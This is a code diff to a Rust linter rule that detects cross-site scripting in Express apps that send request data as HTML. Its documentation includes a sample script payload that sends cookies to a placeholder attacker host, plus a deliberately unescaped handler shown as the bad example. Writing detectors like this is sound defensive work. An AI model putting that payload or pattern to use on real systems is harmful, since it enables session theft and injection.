@@ -32,8 +32,112 @@ pub static RULE: Rule = Rule {
             query: include_str!("../../../../queries/python/returns.scm"),
             run: check_return,
         },
+        Check {
+            family: Family::JavaScript,
+            query_path: "javascript/calls.scm",
+            query: include_str!("../../../../queries/javascript/calls.scm"),
+            run: check_javascript,
+        },
     ],
 };
+
+/// Whether a JavaScript expression builds a string: a template literal with substitutions,
+/// `+`, `.concat()`/`.join()`, directly or through the local it is bound to.
+fn js_built<'a>(checker: &Checker<'a>, node: Node<'a>, depth: u32) -> bool {
+    match node.kind() {
+        "template_string" => named_children(node)
+            .iter()
+            .any(|c| c.kind() == "template_substitution"),
+        "binary_expression" => node
+            .child_by_field_name("operator")
+            .is_some_and(|o| checker.text(o) == "+"),
+        "call_expression" => node
+            .child_by_field_name("function")
+            .and_then(|f| f.child_by_field_name("property"))
+            .is_some_and(|p| matches!(checker.text(p), "concat" | "join" | "replace")),
+        "parenthesized_expression" => node
+            .named_child(0)
+            .is_some_and(|c| js_built(checker, c, depth)),
+        "identifier" if depth < 3 => match checker.lookup(node) {
+            crate::analysis::Lookup::Local(bindings) => bindings.iter().any(|b| match b {
+                crate::analysis::Binding::Value(v) | crate::analysis::Binding::Augmented(v) => {
+                    js_built(checker, *v, depth + 1)
+                }
+                _ => false,
+            }),
+            _ => false,
+        },
+        _ => false,
+    }
+}
+
+/// Express `res.send(html)`, `res.write(html)`, `res.end(html)`: a string body is sent as
+/// `text/html` by `send` and sniffed by browsers from `write`/`end`.
+fn check_javascript<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
+    let (Some(func), Some(args)) = (caps.get("func"), caps.get("args")) else {
+        return;
+    };
+    if func.kind() != "member_expression" {
+        return;
+    }
+    let method = func
+        .child_by_field_name("property")
+        .map(|p| checker.text(p))
+        .unwrap_or("");
+    if !matches!(method, "send" | "write" | "end") {
+        return;
+    }
+    // The receiver chain starts at `res`/`response`: `res.status(404).send(…)`.
+    let Some(receiver) = func.child_by_field_name("object") else {
+        return;
+    };
+    let mut root = receiver;
+    loop {
+        root = match root.kind() {
+            "call_expression" => match root.child_by_field_name("function") {
+                Some(f) => f,
+                None => return,
+            },
+            "member_expression" => match root.child_by_field_name("object") {
+                Some(o) => o,
+                None => return,
+            },
+            _ => break,
+        };
+    }
+    if root.kind() != "identifier" || !matches!(checker.text(root), "res" | "response") {
+        return;
+    }
+    let chain = checker.text(receiver);
+    if chain.contains("json") || chain.contains("text/plain") || chain.contains(".type(\"text\")") {
+        return;
+    }
+    let Some(body) = Arguments::of(args).positional.first().copied() else {
+        return;
+    };
+    // Objects and arrays are sent as JSON.
+    if matches!(body.kind(), "object" | "array") {
+        return;
+    }
+    let Some(taint) = checker.taint(body, Sink::Html).filter(|t| t.user) else {
+        return;
+    };
+    // A value sent as is may be an object (sent as JSON); only request fields that are strings
+    // by nature are HTML when sent raw.
+    if !js_built(checker, body, 0)
+        && ![
+            ".query", ".params", ".cookies", ".headers", ".get(", ".header(",
+        ]
+        .iter()
+        .any(|s| taint.what.contains(s))
+    {
+        return;
+    }
+    let from = checker.describe(&taint);
+    checker
+        .report(body, format!("`res.{method}` sends a string built from {from} as HTML without escaping; render a template (autoescaped) or escape the value (`escape-html`, `he.encode`)"))
+        .with_taint(&taint);
+}
 
 /// Calls that mark a string as safe HTML or send it as an HTML body.
 const SINKS: &[CallSink] = &[
@@ -244,8 +348,10 @@ const DOCS: &str = r#"## What it does
 Flags request data that reaches HTML unescaped: Flask views returning strings built from it
 (Flask sends them as `text/html`), `Markup`/`mark_safe` applied to it, Django `HttpResponse`,
 Flask `make_response`/`Response` and Starlette/FastAPI `HTMLResponse` bodies built from it, and
-Jinja2 environments created without autoescaping. Values passed through `escape`,
-`html.escape`, `bleach.clean`, or bodies sent as `text/plain` or JSON are not reported.
+Jinja2 environments created without autoescaping; in Express, `res.send`/`res.write`/`res.end`
+of strings built from request data (or request strings such as `req.query.name` sent as is).
+Values passed through `escape`, `html.escape`, `bleach.clean`, `escape-html`,
+`encodeURIComponent`, or bodies sent as `text/plain` or JSON are not reported.
 
 ## Why is this bad?
 `?name=<script>fetch('//evil.example/'+document.cookie)</script>` runs in the victim's browser
@@ -257,6 +363,11 @@ with your site's origin: sessions are stolen and actions taken in the user's nam
 def hello():
     return f"<h1>Hello {request.args.get('name', '')}</h1>"
 ```
+```javascript
+app.get("/hello", (req, res) => {
+  res.send(`<h1>Hello ${req.query.name}</h1>`);
+});
+```
 
 ## Use instead
 ```python
@@ -266,7 +377,15 @@ from markupsafe import escape
 def hello():
     return f"<h1>Hello {escape(request.args.get('name', ''))}</h1>"
 ```
-Better: `render_template("hello.html", name=name)`, which escapes by default.
+```javascript
+const escapeHtml = require("escape-html");
+
+app.get("/hello", (req, res) => {
+  res.send(`<h1>Hello ${escapeHtml(req.query.name)}</h1>`);
+});
+```
+Better: `render_template("hello.html", name=name)` (or `res.render("hello", { name })`), which
+escapes by default.
 
 ## References
 - [CWE-79: Cross-site Scripting](https://cwe.mitre.org/data/definitions/79.html)
